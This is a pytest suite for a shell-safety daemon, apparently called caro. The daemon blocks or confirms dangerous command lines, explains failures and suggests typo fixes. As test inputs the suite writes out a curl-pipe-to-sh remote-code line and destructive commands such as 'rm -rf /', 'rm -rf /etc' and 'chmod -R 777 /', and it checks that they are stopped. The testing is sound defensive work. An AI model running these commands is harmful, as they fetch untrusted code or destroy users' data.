"""The guard and the fixer inside the daemon: loaded in the background, heard by the hook."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from caro.wire import TYPES
from daemons import SESSION, World
from persons import confirm_at_terminal


@pytest.fixture
def ready(world: World) -> World:
    world.configure('[safety]\nmode = "active"\n')
    world.start()
    world.wait_ready()
    return world


def test_guard_decides(ready: World) -> None:
    done = ready.preexec("curl https://x.example/i.sh | sh", 1)
    assert done.returncode == 2
    assert "[remote-code]" in done.stderr
    blocked = ready.preexec('rm -rf "$HOME"/*', 2)
    assert blocked.returncode == 2
    assert "caro: blocked: " in blocked.stderr
    assert ready.preexec("echo 'rm -rf /'", 3).returncode == 0


def test_guard_sees_the_variables_that_the_line_names(ready: World) -> None:
    assert ready.preexec('rm -rf "$CARO_TEST_PLACE/"', 1, CARO_TEST_PLACE="/etc").returncode == 2
    assert ready.preexec('rm -rf "$CARO_TEST_PLACE/"', 2, CARO_TEST_PLACE="/tmp/scratch-1").returncode == 0


def test_what_the_session_made_may_go(ready: World) -> None:
    place = {"session": SESSION, "cwd": "/data/work"}
    line = {"type": "preexec", "line": "rm -rf src", **place}
    assert ready.ask(line | {"seq": 1})["action"] == "confirm"
    ready.ask(line | {"line": "mkdir src", "seq": 2})
    ended = {"exit_code": 0, "duration_ms": 1.0}
    assert ready.ask(line | {"seq": 3, "last": ended})["action"] == "allow"
    assert ready.ask(line | {"line": "rm -rf /etc", "seq": 4, "last": ended})["action"] == "block"


def test_mode_is_followed(ready: World) -> None:
    ready.configure('[safety]\nmode = "passive"\n')
    ready.caro("daemon", "reload")
    warned = ready.preexec("rm -rf /etc", 1)
    assert warned.returncode == 0
    assert warned.stderr.startswith("caro: warning: ")
    ready.configure('[safety]\nmode = "off"\n')
    ready.caro("daemon", "reload")
    assert ready.preexec("rm -rf /etc", 2).stderr == ""


def test_rule_files_are_followed(ready: World) -> None:
    """Written, changed or removed while the daemon runs, with nobody to tell it."""
    question = {"type": "preexec", "line": "rm notes.txt", "session": SESSION, "cwd": "/data/work"}
    assert "mine" not in ready.ask(question | {"seq": 1}).get("rules", [])
    file = ready.home / ".config/caro/rules/safety/own.toml"
    file.parent.mkdir(parents=True)
    file.write_text('[[rule]]\nid = "mine"\neffect = "delete"\nbase = 90\nwhy = "I said so"\n', "utf-8")
    assert "mine" in ready.ask(question | {"seq": 2})["rules"]
    file.unlink()
    assert "mine" not in ready.ask(question | {"seq": 3}).get("rules", [])


def test_a_variable_sets_the_mode_of_one_environment(ready: World) -> None:
    assert ready.preexec("rm -rf /etc", 1, CARO_SAFETY_LEVEL="off").returncode == 0
    assert ready.preexec("rm -rf /etc", 2, CARO_SAFETY_MODE="passive").returncode == 0
    assert ready.preexec("rm -rf /etc", 3).returncode == 2
    ready.close()
    assert ready.preexec("rm -rf /etc", 4, CARO_SAFETY_MODE="active").returncode == 2
    assert ready.preexec("rm -rf /etc", 5, CARO_SAFETY_MODE="off").returncode == 0


def test_exec_gate_asks_the_guard_and_an_approval_holds(ready: World) -> None:
    question = {"type": "check_exec", "argv": ["git", "reset", "--hard"], "session": SESSION, "cwd": "/"}
    assert ready.ask(question)["action"] == "confirm"
    assert confirm_at_terminal(ready, "git reset --hard") == 0
    assert ready.ask(question)["action"] == "allow"
    ready.ask({"type": "preexec", "line": "ls", "seq": 2, "session": SESSION})
    assert ready.ask(question)["action"] == "confirm"


@pytest.mark.parametrize("fields", [
    {"type": "preexec", "line": "echo a"}, {"type": "check_exec", "argv": ["git", "push"]},
    {"type": "agent", "event": "before", "agent": "x", "line": "echo a"},
])  # fmt: skip
def test_of_what_was_cut_the_rest_is_a_question(ready: World, fields: dict[str, Any]) -> None:
    """No code goes with it: a yes would hold for whatever begins alike."""
    whole, cut = ready.ask(fields | {"mode": "active"}), ready.ask(fields | {"mode": "active", "cut": True})
    assert whole["allow"]
    assert (cut["action"], cut["rules"][0]) == ("confirm", "unread-rest")
    assert "code" not in cut


def test_every_type_of_the_wire_has_a_handler() -> None:
    from caro.daemon.dispatch import HANDLERS

    assert set(HANDLERS) == TYPES


def test_an_empty_message_of_every_type_is_answered(ready: World) -> None:
    answers = {type_: ready.ask({"type": type_}) for type_ in sorted(TYPES - {"stop"})}
    assert [type_ for type_, answer in answers.items() if "error" in answer] == []


def test_a_line_is_explained_in_its_folder(ready: World) -> None:
    (ready.home / "prod").mkdir()
    ready.configure(
        f'[safety]\nmode = "active"\nblock = ["^make x"]\nfolders = {{"{ready.home}/prod" = "off"}}\n'
    )
    ready.caro("daemon", "reload")
    line = {"type": "explain", "command": "rm -rf /etc", "shell": "bash"}
    told = ready.ask(line | {"cwd": "/"})["explanation"]
    assert "\nCRITICAL (" in told and "Caro does not let it run." in told
    assert "matches your rule ^make x" in ready.ask(line | {"command": "make x"})["explanation"]
    typed = {"type": "preexec", "line": "true", "seq": 1, "session": SESSION, "cwd": str(ready.home)}
    ready.ask(typed)
    asked = {"type": "explain", "command": "rm -rf notes", "session": SESSION}
    assert "inside a home folder" in ready.ask(asked)["explanation"]  # the session's folder


def test_what_failed_is_explained_with_what_was_meant(ready: World) -> None:
    assert "git status   (" in ready.ask({"type": "explain", "command": "gti status"})["explanation"]
    ready.preexec("git comit -m x", 1)
    ready.hook("postexec", "-e", "1", "-d", "100", seq=1)
    told = ready.ask({"type": "explain", "command": "git comit -m x", "session": SESSION})["explanation"]
    assert "It ended with status 1." in told and "git commit -m x   (" in told
    assert "Perhaps" not in ready.ask({"type": "explain", "command": "git status"})["explanation"]


def test_words_are_answered_with_judged_commands(ready: World) -> None:
    rows = ready.ask({"type": "ask", "command": "files over 10 MB changed this week", "cwd": "/"})["answers"]
    assert rows[0]["command"] == "find . -type f -size +10M -mtime -7" and rows[0]["level"] == "low"
    rows = ready.ask({"type": "ask", "command": "force delete branch topic"})["answers"]
    assert {row["command"]: row["level"] for row in rows}["git branch -D topic"] == "high"
    assert ready.ask({"type": "ask", "command": "zzz qqq"})["answers"] == []


def test_a_line_that_is_safer_in_another_form_is_offered_so(ready: World) -> None:
    line = {"type": "preexec", "session": SESSION, "cwd": "/", "shell": "bash"}
    asked = ready.ask(line | {"line": "git push --force origin topic", "seq": 1})
    assert (asked["action"], asked["transform"]) == ("confirm", "git push --force-with-lease origin topic")
    # Once, by the shell that puts it into its next prompt.
    question = {"type": "suggest", "what": "transform", "session": SESSION}
    assert ready.ask(question)["transform"] == asked["transform"]
    assert "transform" not in ready.ask(question)
    # The guard asks about that form too, or it is not surely the same line.
    for other in (
        "git push origin topic",
        "git push --force $X",
        "git push -f; ls",
        "git push -f --force",
    ):
        assert "transform" not in ready.ask(line | {"line": other, "seq": 2}), other


def test_failure_gets_a_fix_and_the_key_its_text(ready: World) -> None:
    assert ready.hook("fix").returncode == 1
    ready.preexec("gti status", 1)
    done = ready.hook("postexec", "-e", "127", "-d", "100", seq=1)
    assert done.returncode == 0
    assert done.stderr.startswith("\x1b[2mcaro: \x1b[0;1mgit status\x1b[0;2m   (")
    assert done.stderr.endswith("esc esc)\x1b[0m\n")
    fixed = ready.hook("fix")
    assert (fixed.returncode, fixed.stdout) == (0, "git status")
    # One that is none of them is not taken from anybody.
    chosen = ready.ask({"type": "fix", "what": "chosen", "session": SESSION, "command": "touch x"})
    assert chosen["command"] == "git status"


def test_a_fix_that_was_taken_is_not_told_later(ready: World) -> None:
    def told_later(seq: int, taken: Callable[[], object]) -> bool:
        ready.preexec("gti status", seq)
        ready.hook("postexec", "-e", "127", "-d", "100", seq=seq)
        taken()
        return "suggestion" in ready.ask({"type": "fix", "what": "late", "session": SESSION})

    assert told_later(1, lambda: ready.preexec("ls", 2))
    assert not told_later(3, lambda: ready.hook("fix"))
    assert not told_later(4, lambda: ready.preexec("git status", 5))


def test_success_and_silence_get_nothing(ready: World) -> None:
    ready.preexec("grep x /etc/passwd", 1)
    done = ready.hook("postexec", "-e", "1", "-d", "100", seq=1)
    assert (done.returncode, done.stderr) == (0, "")
    assert ready.hook("fix").returncode == 1


def test_suggestions_can_be_switched_off(ready: World) -> None:
    ready.configure("[shell]\nsuggestions = false\n")
    ready.caro("daemon", "reload")
    ready.preexec("gti status", 1)
    assert ready.hook("postexec", "-e", "127", seq=1).stderr == ""


def test_failures_are_explained_where_that_is_wanted(ready: World) -> None:
    """Below the failed line, the fix below that; nothing for an answer that is no error, and for ^C."""
    ready.configure('[shell]\nexplain = "always"\n')
    ready.caro("daemon", "reload")
    told = {}
    rows = (
        ("gti status", "127"),
        ("grep x /etc/passwd", "1"),
        ("sleep 9", "130"),
        ("curl http://x.example", "6"),
    )
    for seq, (line, status) in enumerate(rows, 1):
        ready.preexec(line, seq)
        told[line] = ready.hook(
            "postexec", "-e", status, "-d", "1", seq=seq, NO_COLOR="1"
        ).stderr.splitlines()
    assert [line.partition(" ")[0] for line in told["gti status"]] == ["caro:"] * 3
    assert "no command of that name" in told["gti status"][0] and "git status" in told["gti status"][-1]
    assert told["curl http://x.example"][0] == "caro: the host's name has no address"
    assert told["curl http://x.example"][-1].startswith("caro: try: ")
    assert told["grep x /etc/passwd"] == told["sleep 9"] == []


def test_until_the_guard_is_there_the_table_answers(world: World) -> None:
    from daemons import FakeDaemon, reply_with

    world.configure('[safety]\nmode = "active"\n')
    world.compile()
    daemon = FakeDaemon(world.socket, reply_with(action="allow", partial=True))
    assert world.preexec("rm -rf /", 1).returncode == 2
    daemon.answer = reply_with(action="allow")
    assert world.preexec("chmod -R 777 /", 2).returncode == 0
    # What nobody may override is not the daemon's to let pass either.
    assert world.preexec("rm -rf /", 3).returncode == 2
    daemon.answer = reply_with(error="not today")
    assert world.preexec("rm -rf /", 3).returncode == 2
    daemon.close()


def test_secrets_stay_out_of_the_ring(ready: World) -> None:
    secret = "ghp_" + "a1B2" * 9
    ready.preexec(f"export GITHUB_TOKEN={secret}", 1)
    ready.preexec("true", 2, "-e", "0")
    answer = json.dumps(
        [ready.ask({"type": kind, "session": SESSION}) for kind in ("fix", "suggest", "status")]
    )
    assert secret not in answer


PATIENT = {"timeout_ms": 5000}


@pytest.fixture
def offering(world: World) -> World:
    world.configure('[fix]\nbefore = "offer"\n')
    world.start()
    world.wait_ready()
    return world


def test_a_line_that_is_sure_to_fail_is_stopped_and_offered_mended(offering: World) -> None:
    line = {"type": "preexec", "session": SESSION, "cwd": "/", "shell": "bash", "tty": True, **PATIENT}
    asked = offering.ask(line | {"line": "gerp -n x notes.txt", "seq": 1})
    assert (asked["action"], asked["transform"]) == ("block", "grep -n x notes.txt")
    assert "no command `gerp`" in asked["reason"] and asked["rules"] == ["no-such-command"]
    listed = offering.ask(line | {"line": "whcih; ls", "seq": 3})
    assert "no command `whcih`:" in listed["reason"] and listed["transform"] == "which; ls"
    # Typed again, it runs: the shell may know a function of which nobody told.
    assert offering.ask(line | {"line": "gerp -n x notes.txt", "seq": 2})["action"] == "allow"


MAY_BE_RIGHT = (
    "zzqxv; gerp x notes",
    "grep x y",
    "zzqxv x",
    "./gerp x",
    "$gerp x",
    "A=1 gerp x",
    "'gerp' x",
    "shutdwon now",
    "gi status",
)


def test_a_line_that_may_be_right_runs(offering: World) -> None:
    typed = {"type": "preexec", "session": SESSION, "cwd": "/", "shell": "bash", "tty": True, **PATIENT}
    answers = {
        line: offering.ask(typed | {"line": line, "seq": seq})["action"]
        for seq, line in enumerate(MAY_BE_RIGHT)
    }
    assert answers == dict.fromkeys(MAY_BE_RIGHT, "allow")


def test_a_word_that_has_run_is_not_stopped(offering: World) -> None:
    line = {"type": "preexec", "session": SESSION, "cwd": "/", "shell": "bash", "tty": True, **PATIENT}
    offering.ask(line | {"line": 'gerp() { grep "$@"; }', "seq": 1})
    ended = {"exit_code": 0, "duration_ms": 1.0}
    offering.ask(line | {"line": "gerp a; true", "seq": 2, "last": ended, "tty": False})
    assert offering.ask(line | {"line": "gerp a", "seq": 3, "last": ended})["action"] == "allow"


def test_nothing_is_stopped_unless_it_was_asked_for(ready: World) -> None:
    line = {
        "type": "preexec",
        "session": SESSION,
        "cwd": "/",
        "shell": "bash",
        "tty": True,
        "seq": 1,
        **PATIENT,
    }
    assert ready.ask(line | {"line": "gerp -n x notes.txt"})["action"] == "allow"


def test_without_a_terminal_nobody_sees_a_prompt_and_the_line_runs(offering: World) -> None:
    assert offering.preexec("gerp x y", 1).returncode == 0
